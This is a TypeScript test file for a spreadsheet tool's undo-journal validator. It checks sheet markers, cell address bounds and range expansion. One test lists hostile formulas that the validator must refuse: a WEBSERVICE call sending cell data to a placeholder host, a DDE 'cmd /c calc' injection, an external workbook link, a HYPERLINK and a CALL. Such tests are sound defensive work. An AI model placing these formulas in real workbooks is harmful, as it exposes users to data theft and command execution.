// A journal is data inside the user's workbook: 撤销 / 清除标记 act only on entries that look like
// what juesuan writes.
import {
  JournalRejectedError,
  assertJournalEntriesUsable,
  createdSheetMarkerReference,
  journalEntryProblem,
  markedSheets,
  nextCreatedSheetMarkerName,
  rangeAddresses,
} from '../../../src/core/plan';
import type { JournalEntry } from '../../../src/core/plan';

const entry = (over: Partial<JournalEntry>): JournalEntry => ({ action: 'fill', createdSheets: [], cells: [], columns: [], ...over });

describe('journalEntryProblem', () => {
  test('an ordinary entry passes', () => {
    const ok = entry({
      createdSheets: ['部门决算情况说明'],
      cells: [
        { sheet: '表1', address: 'B4', value: 12.5, fill: { color: null } },
        { sheet: '表1', address: 'C4', value: { formula: 'SUM(C5:C9)', result: 3 } },
        { sheet: '表1', address: 'D4', value: { raw: { richText: [{ text: '文字' }] } } },
      ],
      columns: [{ sheet: '表1', column: 'A', width: 30 }],
      rows: [{ sheet: '表1', row: 4, height: null }],
    });
    expect(journalEntryProblem(ok, ['部门决算情况说明'])).toBeUndefined();
  });

  test('a user sheet listed as created', () => {
    expect(journalEntryProblem(entry({ createdSheets: ['表1'] }), ['部门决算情况说明'])).toMatch(/“表1”.*没有 juesuan 的新建标记/);
    expect(journalEntryProblem(entry({ action: 'supplement', createdSheets: ['表1'] }), [])).toMatch(/“表1”/);
    expect(journalEntryProblem(entry({ action: 'narrative', createdSheets: ['补充信息'] }), [])).toMatch(/“补充信息”/);
  });

  test('an unmarked sheet is refused under any name, with what to do (a sheet an older juesuan created has no marker)', () => {
    const unmarked = entry({ action: 'narrative', createdSheets: ['部门决算情况说明'] });
    expect(journalEntryProblem(unmarked, [])).toMatch(/“部门决算情况说明”.*没有 juesuan 的新建标记.*旧版.*手动删除/);
    expect(journalEntryProblem(entry({ action: 'supplement', createdSheets: ['补充信息2'] }), [])).toMatch(/“补充信息2”/);
    expect(journalEntryProblem(entry({ action: 'highlight', createdSheets: ['审核结果'] }), [])).toMatch(/“审核结果”/);
  });

  test('a listed sheet the workbook no longer has is no problem: nothing to delete', () => {
    const gone = entry({ action: 'narrative', createdSheets: ['部门决算情况说明'] });
    expect(journalEntryProblem(gone, [], ['表1', '表2'])).toBeUndefined();
    expect(journalEntryProblem(gone, [], ['表1', '部门决算情况说明'])).toMatch(/没有 juesuan 的新建标记/);
  });

  test('a range where a cell belongs, a column or row out of bounds', () => {
    expect(journalEntryProblem(entry({ cells: [{ sheet: '表1', address: 'A1:XFD1048576', value: 1 }] }), [])).toMatch(/不是一个单元格地址/);
    expect(journalEntryProblem(entry({ cells: [{ sheet: '表1', address: 'XFE1', value: 1 }] }), [])).toMatch(/不是一个单元格地址/);
    expect(journalEntryProblem(entry({ cells: [{ sheet: '表1', address: 'A1048577', value: 1 }] }), [])).toMatch(/不是一个单元格地址/);
    expect(journalEntryProblem(entry({ columns: [{ sheet: '表1', column: 'A:XFD', width: 3 }] }), [])).toMatch(/不是一个列号/);
    expect(journalEntryProblem(entry({ rows: [{ sheet: '表1', row: 2e9, height: 3 }] }), [])).toMatch(/行号/);
  });

  test('formulas reaching outside the workbook are refused; text starting with "=" is text (every host restores it as text)', () => {
    const bad = (value: JournalEntry['cells'][number]['value']) =>
      journalEntryProblem(entry({ cells: [{ sheet: '表1', address: 'B2', value }] }), []);
    expect(bad({ formula: 'WEBSERVICE("http://x/?"&A1)' })).toMatch(/公式/);
    expect(bad({ formula: '[1]Sheet1!A1' })).toMatch(/公式/);
    expect(bad({ formula: "cmd|' /c calc'!A0" })).toMatch(/公式/);
    expect(bad({ raw: { formula: 'HYPERLINK("http://x","y")', result: 'y' } })).toMatch(/公式/);
    expect(bad({ raw: { sharedFormula: 'A1', nested: ['=CALL("x")'] } })).toMatch(/公式/);
    expect(bad('=1+1')).toBeUndefined();
    expect(bad({ formula: 'ROUND(SUM(B4:B9),2)+IF(C3>0,"(WEBSERVICE)",0)' })).toBeUndefined();
  });
});

test('assertJournalEntriesUsable throws a Chinese message naming the journal sheet', () => {
  expect(() => assertJournalEntriesUsable([entry({ createdSheets: ['表1'] })], [], '撤销')).toThrow(JournalRejectedError);
  expect(() => assertJournalEntriesUsable([entry({ createdSheets: ['表1'] })], [], '撤销')).toThrow(
    /_juesuan_journal.*无法安全地撤销.*没有做任何修改/,
  );
});

test('marker names round trip, quotes included', () => {
  const ref = createdSheetMarkerReference("部门 决算's");
  expect(
    markedSheets([
      { name: '_juesuan_created_1', reference: ref },
      { name: 'Other', reference: "'表1'!$A$1" },
    ]),
  ).toEqual(["部门 决算's"]);
  expect(markedSheets([{ name: '_juesuan_created_2', reference: '=补充信息!$A$1' }])).toEqual(['补充信息']);
  expect(nextCreatedSheetMarkerName(['_juesuan_created_1', '_JUESUAN_CREATED_2'])).toBe('_juesuan_created_3');
});

test('rangeAddresses refuses to expand a whole sheet', () => {
  expect(() => rangeAddresses('A1:XFD1048576')).toThrow(/超过一次可写入的上限/);
  expect(rangeAddresses('A1:B2')).toEqual(['A1', 'B1', 'A2', 'B2']);
});
